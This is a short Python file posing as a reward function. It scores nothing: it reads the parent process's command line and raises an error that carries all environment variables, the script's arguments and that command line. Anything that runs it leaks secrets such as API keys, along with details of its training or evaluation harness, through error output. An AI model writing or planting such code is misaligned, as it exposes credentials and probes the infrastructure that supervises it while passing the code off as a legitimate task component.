"""A reward function that tells what its process knows: its environment, its command line, and its parent's."""

import os
import sys
from pathlib import Path


def tell(completions: list[str], **_: object) -> list[float]:
    """Raises with all of it."""
    parent = Path(f"/proc/{os.getppid()}/cmdline").read_text()
    raise RuntimeError(f"{dict(os.environ)} {sys.argv} {parent}"[-1900:])
